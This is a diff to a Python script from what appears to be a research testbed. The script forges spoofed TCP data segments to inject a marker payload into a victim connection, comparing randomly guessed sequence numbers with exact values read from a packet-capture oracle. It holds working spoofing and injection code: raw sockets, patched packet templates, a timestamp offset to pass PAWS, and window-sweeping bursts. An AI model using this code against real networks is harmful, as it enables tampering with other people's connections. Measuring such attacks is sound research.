@@ -5,14 +5,16 @@ It imports scapy, prints ``ready``, waits for ``go`` on stdin (so scapy's slow i
 not paid while the victim's transfer runs), then sends spoofed data segments from the
 server's address and port to the client's, and prints one JSON report line.
 
-- ``guessed``: ``count`` segments whose sequence AND acknowledgment numbers are drawn
-  uniformly from the 32-bit space. What an off-path attacker cannot know is guessed; what
-  the testbed gives it for free (the 4-tuple, the freshest timestamp values) comes from the
-  oracle, so that the sequence numbers are the only difference from the control.
+- ``guessed``: ``count`` segments (at most ``duration_s`` of sending) whose sequence AND
+  acknowledgment numbers are drawn uniformly from the 32-bit space. What an off-path
+  attacker cannot know is guessed; what the testbed gives it for free (the 4-tuple, the
+  freshest timestamp values) comes from the oracle, so that the sequence numbers are the
+  only difference from the control.
 - ``control``: the sequence numbers are read from the ORACLE (the testbed's own capture of
   the path, which no off-path attacker has): the client's latest ACK and window, the
-  server's latest data, the freshest TSval (PAWS). The worker tiles the sequence range the
-  client will accept next, in ``rounds`` bursts, re-reading the oracle before each one.
+  server's latest data, the freshest TSval (PAWS). For ``duration_s`` (or until the victim
+  connection ends) the worker sweeps the range the client will accept next with small bursts
+  of contiguous tiles, re-reading the oracle before each one.
 """
 
 from __future__ import annotations
@@ -20,15 +22,16 @@ from __future__ import annotations
 import json
 import os
 import random
+import socket
+import struct
 import sys
 import time
 from pathlib import Path
 from typing import Any
 
-from attacks._wire import ACK, SEQ_MOD, SYN, Segment, read_pcap, seq_after
+from attacks._wire import ACK, FIN, RST, SEQ_MOD, SYN, Segment, read_pcap, seq_after, tcp_checksum
 
 TILE = 1000           # payload bytes per forged segment (below the path MTU with options)
-MAX_TILES = 400       # per round
 TSVAL_AHEAD_MS = 100
 
 
@@ -67,35 +70,49 @@ def _state(cfg: dict[str, Any]) -> dict[str, Any] | None:
     return {"cport": syn.sport, "rcv_nxt": last_up.ack, "data_end": end,
             "rcv_wnd": last_up.win << cws, "snd_wnd": down[-1].win << sws,
             "client_seq": last_up.end, "tsval": stamped[-1].tsval, "tsval_at": stamped[-1].ts,
-            "tsecr": last_up.tsval or 0, "oracle_age_s": round(time.time() - stamped[-1].ts, 4)}
+            "tsecr": last_up.tsval or 0, "oracle_age_s": round(time.time() - stamped[-1].ts, 4),
+            "ended": any(s.flags & (FIN | RST) for s in up)}
 
 
 def main() -> int:
     cfg = json.loads(sys.argv[1])
-    from scapy.all import IP, TCP, Raw, conf
-    sock = conf.L3socket()
+    from scapy.all import IP, TCP, Raw
+    # IP_HDRINCL: the kernel fills in the IP checksum (and the id, left at zero).
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     print("ready", flush=True)
     if sys.stdin.readline().strip() != "go":
         return 1
     rng = random.Random(int.from_bytes(os.urandom(8), "big"))
-    report: dict[str, Any] = {"mode": cfg["mode"], "sent": 0, "rounds": []}
+    report: dict[str, Any] = {"mode": cfg["mode"], "sent": 0}
     marker = cfg["marker"].encode()
     t0 = time.monotonic()
 
+    templates: dict[int, bytearray] = {}
+
     def send(st: dict[str, Any], seq: int, ack: int, size: int) -> None:
+        """Send one forged segment. scapy builds the packet once per size; each segment is
+        that template with its numbers patched in and the TCP checksum recomputed, so that
+        a burst leaves at once (the control races the real data)."""
         # The last TSval in the capture was stamped before the packet waited in the access
         # router's queue; PAWS drops anything older than the newest TSval the client saw,
         # so aim a little into the future (PAWS accepts newer values).
         tsval = (st["tsval"] + int((time.time() - st["tsval_at"]) * 1000)
                  + TSVAL_AHEAD_MS) % SEQ_MOD
-        body = (marker * (size // len(marker) + 1))[:size]
-        pkt = (IP(src=cfg["server"], dst=cfg["client"])
-               / TCP(sport=cfg["port"], dport=st["cport"], flags="PA", seq=seq, ack=ack,
-                     window=min(st["snd_wnd"], 65535) or 502,
-                     options=[("NOP", None), ("NOP", None),
-                              ("Timestamp", (tsval, st["tsecr"]))])
-               / Raw(body))
-        sock.send(pkt)
+        if size not in templates:
+            body = (marker * (size // len(marker) + 1))[:size]
+            pkt = (IP(src=cfg["server"], dst=cfg["client"])
+                   / TCP(sport=cfg["port"], dport=st["cport"], flags="PA", seq=0, ack=0,
+                         window=min(st["snd_wnd"], 65535) or 502,
+                         options=[("NOP", None), ("NOP", None), ("Timestamp", (0, 0))])
+                   / Raw(body))
+            templates[size] = bytearray(bytes(pkt))
+        buf = templates[size]
+        struct.pack_into("!II", buf, 24, seq, ack)            # TCP seq, ack
+        struct.pack_into("!II", buf, 44, tsval, st["tsecr"])  # timestamp option values
+        struct.pack_into("!H", buf, 36, 0)
+        struct.pack_into("!H", buf, 36, tcp_checksum(bytes(buf[12:16]), bytes(buf[16:20]),
+                                                     bytes(buf[20:])))
+        sock.sendto(bytes(buf), (cfg["client"], 0))
         report["sent"] += 1
 
     try:
@@ -106,7 +123,15 @@ def main() -> int:
             return 0
         report["four_tuple"] = [cfg["server"], cfg["port"], cfg["client"], st["cport"]]
         if cfg["mode"] == "guessed":
-            for _ in range(cfg["count"]):
+            deadline = t0 + cfg["duration_s"]
+            gap = 1.0 / cfg["rate_pps"]
+            for i in range(cfg["count"]):
+                # Paced: a burst would overflow the access router's queue and be lost there.
+                wait = t0 + i * gap - time.monotonic()
+                if wait > 0:
+                    time.sleep(wait)
+                if time.monotonic() > deadline:
+                    break
                 send(st, rng.randrange(SEQ_MOD), rng.randrange(SEQ_MOD), cfg["size"])
             elapsed = time.monotonic() - t0
             # A data segment is accepted only if its sequence number falls in the client's
@@ -114,30 +139,39 @@ def main() -> int:
             p = (st["rcv_wnd"] / SEQ_MOD) * ((st["snd_wnd"] + 1) / SEQ_MOD)
             report.update({
                 "elapsed_s": round(elapsed, 3),
-                "rate_pps": round(cfg["count"] / elapsed, 1) if elapsed else None,
+                "rate_pps": round(report["sent"] / elapsed, 1) if elapsed else None,
                 "rcv_wnd": st["rcv_wnd"], "ack_window": st["snd_wnd"],
-                "p_accept_per_segment": p, "expected_accepted": p * cfg["count"],
+                "p_accept_per_segment": p, "expected_accepted": p * report["sent"],
             })
         else:
-            for r in range(cfg["rounds"]):
-                if r:
-                    time.sleep(cfg["interval_s"])
-                    st = _state(cfg) or st
-                start = st["data_end"] if seq_after(st["data_end"], st["rcv_nxt"]) \
+            # The client's next expected byte, when a forged segment reaches it, lies past
+            # the last data the oracle saw by however much waits in the access router's
+            # queue (unknown, at most the queue's size). Sweep that range with small bursts
+            # of contiguous tiles, re-reading the oracle before each: the tile that holds
+            # the next expected byte on arrival is taken in order (its old part trimmed),
+            # and the real bytes that follow are dropped as duplicates.
+            deadline = t0 + cfg["duration_s"]
+            step = cfg["burst"] * TILE
+            offsets = list(range(0, cfg["sweep_bytes"], step))
+            bursts = 0
+            report["stopped"] = "duration"
+            while time.monotonic() < deadline:
+                fresh = _state(cfg)
+                if fresh is None or fresh["ended"]:
+                    report["stopped"] = "the victim connection ended"
+                    break
+                st = fresh
+                base = st["data_end"] if seq_after(st["data_end"], st["rcv_nxt"]) \
                     else st["rcv_nxt"]
-                # Everything from what the client acknowledged up to its window's right
-                # edge: the tile that holds the client's next expected byte on arrival is
-                # taken in order, and the real bytes that follow are dropped as duplicates.
-                right = (st["rcv_nxt"] + max(st["rcv_wnd"], TILE)) % SEQ_MOD
-                first = st["rcv_nxt"]
-                span = (right - first) % SEQ_MOD
-                tiles = min(span // TILE + 1, MAX_TILES)
-                for i in range(tiles):
-                    send(st, (first + i * TILE) % SEQ_MOD, st["client_seq"], TILE)
-                report["rounds"].append({
-                    "rcv_nxt": st["rcv_nxt"], "data_end": start, "rcv_wnd": st["rcv_wnd"],
-                    "tiles": tiles, "oracle_age_s": st["oracle_age_s"], "tsval": st["tsval"]})
-            report["elapsed_s"] = round(time.monotonic() - t0, 3)
+                off = offsets[bursts % len(offsets)]
+                for i in range(cfg["burst"]):
+                    send(st, (base + off + i * TILE) % SEQ_MOD, st["client_seq"], TILE)
+                bursts += 1
+                time.sleep(cfg["pause_s"])
+            report.update({"bursts": bursts, "burst_tiles": cfg["burst"],
+                           "sweep_bytes": cfg["sweep_bytes"],
+                           "last_oracle_age_s": st["oracle_age_s"],
+                           "elapsed_s": round(time.monotonic() - t0, 3)})
     finally:
         sock.close()
     print(json.dumps(report), flush=True)
